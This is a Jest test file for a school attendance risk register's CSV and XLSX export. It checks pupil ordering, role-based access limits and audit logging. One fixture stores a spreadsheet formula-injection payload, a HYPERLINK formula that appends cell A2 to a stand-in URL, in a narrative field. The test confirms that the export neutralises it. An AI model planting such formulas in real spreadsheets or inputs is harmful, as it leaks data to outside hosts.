import { beforeEach, describe, expect, test } from '@jest/globals';
import { strFromU8, unzipSync } from 'fflate';
import type { Person } from '../../../src/domain/person.ts';
import type { ExportAsked } from '../../../src/operations/register-grid/export-register.ts';
import { wireRegister } from '../../../src/wire-register.ts';
import { at, person, schoolInRecords, type SchoolInRecords } from '../../support/school-in-records.ts';
import { testDatabase } from '../../support/test-database.ts';

const champion = person('attendance-champion');
const FORMULA = '=HYPERLINK("http://example.org/"&A2,"Open me")';

describe('the risk register as a file', () => {
  const opened = testDatabase('embedded');
  let known: SchoolInRecords;
  beforeEach(async () => {
    known = await schoolInRecords(opened.database);
    await known.mark('/');
    await known.mark('O', [2]);
    await opened.database.records.listWrites.request({
      ...{ writeId: `w ${known.school.schoolId}`, schoolId: known.school.schoolId, list: 'risk-register' },
      ...{ rowKey: known.pupil(2).pupilId, itemId: null, etag: null, basedOn: null },
      ...{ fields: { Narrative: FORMULA, NextReviewOn: '2026-12-07' }, requestedBy: 'kit', requestedAt: at('09:00') },
    });
  });

  const ids = (...numbers: readonly number[]) => numbers.map((number) => known.pupil(number).pupilId);
  const take = (by: Person, asked: ExportAsked) =>
    wireRegister({ database: opened.database, clock: () => at('10:00') }).exportRegister(known.school, by, asked);
  const bytesOf = async (by: Person, asked: ExportAsked) => {
    const taken = await take(by, asked);
    if (taken.kind !== 'file') throw new Error(taken.message);
    return taken;
  };
  const csv = async (by: Person, ...numbers: readonly number[]) => {
    const { bytes } = await bytesOf(by, { format: 'csv', pupilIds: ids(...numbers) });
    return new TextDecoder().decode(bytes).split('\r\n');
  };

  test('has the pupils asked for, each once and in that order', async () => {
    const lines = await csv(champion, 3, 2, 3);
    expect(lines).toHaveLength(4);
    expect(lines[0]).toContain('Pupil,Year,Form,Sessions missed,Sessions possible,Attendance %');
    expect(lines[1]).toContain(known.pupil(3).surname);
    expect(lines[2]).toContain(`${known.pupil(2).surname}, ${known.pupil(2).forename}`);
    expect(lines[2]).toContain('Year 9,9A,1,1,0,');
    expect(lines[2]).toContain('2026-12-07');
  });

  test('runs nothing in a spreadsheet, whatever people wrote', async () => {
    expect((await csv(champion, 2))[1]).toContain(`"'=HYPERLINK(`);
    const { bytes, fileName } = await bytesOf(champion, { format: 'xlsx', pupilIds: ids(1, 2) });
    expect(fileName).toBe('risk-register-2026-11-23.xlsx');
    const parts = Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)] as const);
    const all = parts.map(([, text]) => text).join('\n');
    expect(all).toContain('=HYPERLINK(');
    const sheet = parts.find(([name]) => name.endsWith('sheet1.xml'))?.[1] ?? '';
    expect(sheet).not.toMatch(/<f[ >]/);
    expect(sheet.match(/<row /g)).toHaveLength(3);
  });

  test('leaves out whom the person may not take out, and what they may not read', async () => {
    const head = person('head-of-year', { yearGroups: [8] });
    expect(await take(head, { format: 'csv', pupilIds: ids(1, 2) })).toMatchObject({ kind: 'nobody' });
    const tutor = person('tutor', { forms: [known.pupil(2).form] });
    expect(await take(tutor, { format: 'csv', pupilIds: ids(2) })).toMatchObject({ kind: 'nobody' });
    expect(await take(champion, { format: 'xlsx', pupilIds: ['of-another-school'] })).toMatchObject({ kind: 'nobody' });
  });

  test('is recorded with who, how many and by what right, and only where a file left', async () => {
    await csv(champion, 1, 2);
    await take(person('tutor', { forms: ['9A'] }), { format: 'csv', pupilIds: ids(1) });
    const rows = await opened.opened.db
      .selectFrom('audit')
      .select(['person_id', 'subject', 'reason'])
      .where('school_id', '=', known.school.schoolId)
      .where('verb', '=', 'register.export')
      .execute();
    expect(rows).toEqual([
      { person_id: 'attendance-champion-1', subject: 'csv, 2 pupils', reason: 'attendance-champion, whole school' },
    ]);
  });
});
